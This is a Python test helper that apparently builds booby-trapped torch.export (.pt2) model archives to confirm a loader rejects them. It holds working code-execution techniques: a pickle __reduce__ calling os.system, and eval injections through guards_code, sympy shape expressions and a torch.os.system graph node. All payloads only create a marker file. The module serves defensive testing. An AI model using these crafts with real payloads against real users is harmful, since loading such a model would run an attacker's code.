"""Exported models (torch.export .pt2) crafted to run code when loaded, from a genuine one.

Each craft edits the archive the way an attacker would and plants a payload that creates
``marker``: if the marker exists after loading, the file ran code.
"""

from __future__ import annotations

import functools
import io
import json
import os
import pickle
import re
import zipfile
from pathlib import Path

import torch


class Exploit:
    """Unpickling this creates ``marker``: proof that code ran."""

    def __init__(self, marker):
        self.marker = str(marker)

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


def _torch_saved(obj) -> bytes:
    buf = io.BytesIO()
    torch.save(obj, buf)
    return buf.getvalue()


def _edit_json(entries: dict, name: str, edit) -> None:
    doc = json.loads(entries[name])
    edit(doc)
    entries[name] = json.dumps(doc).encode()


def flagged_weight(entries, marker):
    """The issue's case: a payload marked ``use_pickle: true``, its bytes a pickle."""
    def edit(doc):
        meta = next(iter(doc["config"].values()))
        meta["use_pickle"] = True
        entries["data/weights/" + meta["path_name"]] = _torch_saved(Exploit(marker))
    _edit_json(entries, "data/weights/model_weights_config.json", edit)


def flagged_constant(entries, marker):
    def edit(doc):
        doc["config"]["evil"] = {"path_name": "tensor_99", "is_param": False, "use_pickle": True, "tensor_meta": None}
    _edit_json(entries, "data/constants/model_constants_config.json", edit)
    entries["data/constants/tensor_99"] = _torch_saved(Exploit(marker))


def pickled_sample_inputs(entries, marker):
    """No flag at all: torch retries a failed weights_only=True load with weights_only=False."""
    entries["data/sample_inputs/model.pt"] = _torch_saved(((Exploit(marker),), {}))


def opaque_constant(entries, marker):
    """A constant whose path starts with opaque_obj_: torch hands its bytes to pickle.loads."""
    def edit(doc):
        doc["config"]["evil"] = {"path_name": "opaque_obj_0", "is_param": False, "use_pickle": True,
                                 "tensor_meta": None}
    _edit_json(entries, "data/constants/model_constants_config.json", edit)
    entries["data/constants/opaque_obj_0"] = pickle.dumps(Exploit(marker))


def legacy_weights(entries, marker):
    """The pre-config layout: data/weights/model.pt, loaded with the weights_only=False fallback."""
    entries["data/weights/model.pt"] = _torch_saved({"w": Exploit(marker)})


def guard_code(entries, marker):
    """guards_code is pasted into Python source and exec'd by ExportedProgram.module() (torch 2.13)."""
    _edit_json(entries, "models/model.json",
               lambda d: d["guards_code"].append(f"__import__('os').system('touch {marker}') == 0"))


def shape_expression(entries, marker):
    """Every expr_str goes to sympy.sympify, which eval()s it."""
    text = entries["models/model.json"].decode()
    symbol = re.search(r"Symbol\('s[0-9]+', positive=True, integer=True\)", text).group(0)
    entries["models/model.json"] = text.replace(
        symbol, f"{symbol} + 0*__import__('os').system('touch {marker}')", 1).encode()


def python_target(entries, marker):
    """A node whose target is a Python callable under torch (torch.os.system), not an operator."""
    node = {"target": "torch.os.system", "inputs": [{"name": "command", "arg": {"as_string": f"touch {marker}"},
                                                      "kind": 1}],
            "outputs": [], "metadata": {}, "is_hop_single_tensor_return": None, "name": "pwn"}
    _edit_json(entries, "models/model.json", lambda d: d["graph_module"]["graph"]["nodes"].insert(0, node))


PICKLE_CRAFTS = {"flagged_weight": flagged_weight, "flagged_constant": flagged_constant,
                 "pickled_sample_inputs": pickled_sample_inputs, "opaque_constant": opaque_constant,
                 "legacy_weights": legacy_weights}
CODE_CRAFTS = {"guard_code": guard_code, "shape_expression": shape_expression, "python_target": python_target}


def crafted(genuine: bytes, craft, marker) -> bytes:
    """``genuine`` (a .pt2's bytes) with ``craft`` applied, written back as torch writes it."""
    with zipfile.ZipFile(io.BytesIO(genuine)) as z:
        root = z.namelist()[0].split("/", 1)[0]
        entries = {n[len(root) + 1:]: z.read(n) for n in z.namelist()}
    craft(entries, marker)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as z:
        for name, blob in entries.items():
            z.writestr(f"{root}/{name}", blob)
    return out.getvalue()


class TinyTower(torch.nn.Module):
    """A user tower in miniature: parameters, a buffer, a constant, a dynamic batch."""

    def __init__(self):
        super().__init__()
        torch.manual_seed(0)
        self.emb = torch.nn.Embedding(10, 4)
        self.register_buffer("scale", torch.tensor(2.0))
        self.register_buffer("shift", torch.ones(4), persistent=False)  # a constant in the archive

    def forward(self, users, seq):
        return self.emb(users) * self.scale + self.emb(seq).mean(1) + self.shift


TINY_ARGS = (torch.tensor([1, 2, 3]), torch.tensor([[1, 2, 3], [4, 5, 6], [7, 8, 9]]))


@functools.cache
def tiny_tower_pt2() -> bytes:
    """A genuine archive, written by this torch's torch.export.save."""
    batch = torch.export.Dim("batch", min=1, max=1 << 24)
    with torch.no_grad():
        program = torch.export.export(TinyTower().eval(), TINY_ARGS, dynamic_shapes=({0: batch}, {0: batch}))
    buf = io.BytesIO()
    torch.export.save(program, buf)
    return buf.getvalue()


def model_dir(root: Path, tower: bytes) -> Path:
    """An exported model folder as far as `raytower recommend` reads before its tower."""
    d = root / "model"
    d.mkdir(parents=True)
    # a sound manifest (raytower.export.check_manifest), so what is refused is the tower itself
    meta = ["age_bucket", "gender_idx", "occupation_idx"]
    (d / "manifest.json").write_text(json.dumps({"format": 2, "max_len": 3, "meta_columns": meta}))
    (d / "user_tower.pt2").write_bytes(tower)
    return d
